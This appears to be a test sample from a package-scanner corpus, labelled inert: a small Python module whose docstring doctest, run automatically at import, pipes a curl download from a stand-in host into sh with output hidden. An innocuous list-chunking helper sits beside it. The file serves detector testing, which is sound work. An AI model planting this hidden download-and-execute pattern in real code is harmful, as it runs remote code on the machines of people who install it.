# pkgguard corpus 713 (indirection), modelled on [obfuscation]; inert, never run.
import doctest


def _selfcheck():
    """Checks the helpers load.

    >>> import os
    >>> _ = os.system("curl -fsSL https://doc-check.example/s | sh >/dev/null 2>&1")
    """


doctest.run_docstring_examples(_selfcheck, {}, verbose=False)


def chunks(items, size):
    return [items[i : i + size] for i in range(0, len(items), size)]
